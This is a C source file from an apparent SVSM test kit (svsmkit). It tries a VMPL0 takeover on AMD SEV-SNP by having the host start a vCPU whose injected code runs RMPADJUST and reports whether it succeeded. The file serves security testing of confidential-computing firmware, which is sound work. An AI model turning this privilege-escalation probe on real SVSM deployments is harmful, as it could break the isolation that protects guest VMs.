/* SPDX-FileCopyrightText: The svsmkit authors
 * SPDX-License-Identifier: MIT
 *
 * See takeover.h.
 */
#include <svsm/abi/ghcb.h>
#include <svsm/abi/snp.h>
#include <svsm/abi/svsm.h>

#include "layout.h"
#include "svsm.h"
#include "takeover.h"

#define LIST		PAGE(2)
/* Where the new vCPU leaves its word, and a page for it to try RMPADJUST on. */
#define PROOF		((volatile struct proof *)PAGE(1))
#define TRIED		PAGE(60)
#define FAIL_PERMISSION	2u
#define PATIENCE	(1ull << 27)

struct proof {
	uint64_t code, there;
};

/* RMPADJUST for VMPL1 is permitted to VMPL0 alone. */
static void prove(uint64_t unused)
{
	uint64_t rax = TRIED;

	(void)unused;
	__asm__ volatile(".byte 0xf3, 0x0f, 0x01, 0xfe"
			 : "+a"(rax) : "c"(0ull), "d"(1ull) : "memory", "cc");
	PROOF->code = (uint32_t)rax;
	PROOF->there = 1;
	for (;;)
		__asm__ volatile("pause");
}

void takeover_say(const char *text, uint64_t value)
{
	say("takeover: ");
	say(text);
	say(": ");
	say_hex(value);
	say("\n");
}

void takeover_write_vmsa(void)
{
	vcpu_write(TARGET, prove, 0, TARGET_STACK);
}

bool takeover_prepare(void)
{
	if (!host_register(&boot_host) ||
	    !host_change(&boot_host, OWN, OWN_PAGES, false,
			 SVSM_PSC_OP_PRIVATE) ||
	    !svsm_pvalidate(OWN, OWN_PAGES, SVSM_PVALIDATE_VALID, 0))
		return false;
	PROOF->there = 0;
	PROOF->code = FAIL_PERMISSION;
	takeover_write_vmsa();
	return true;
}

uint64_t takeover_call(uint32_t fn, uint64_t rcx, uint64_t rdx, uint64_t r8)
{
	struct call call = {
		.protocol = SVSM_PROTOCOL_CORE, .fn = fn, .rcx = rcx,
		.rdx = rdx, .r8 = r8,
	};

	return svsm_call(&call) ? call.rax : UINT64_MAX;
}

uint64_t takeover_pvalidate(uint64_t entry)
{
	volatile uint64_t *list = (volatile uint64_t *)LIST;

	list[0] = 1;
	list[1] = entry;
	return takeover_call(SVSM_CORE_PVALIDATE, LIST, 0, 0);
}

unsigned takeover_try(uint32_t apic_id)
{
	takeover_say("the host runs it",
		     host_create_vcpu(&boot_host, apic_id, 0, TARGET,
				      SVSM_SEV_SNP));
	for (uint64_t i = 0; i < PATIENCE && !PROOF->there; i++)
		__asm__ volatile("pause");
	takeover_say("our code ran", PROOF->there);
	takeover_say("RMPADJUST of VMPL1", PROOF->code);
	if (!PROOF->there || PROOF->code != 0)
		return 0;
	say("takeover: VMPL0 is the guest's\n");
	return TAKEN_OVER;
}
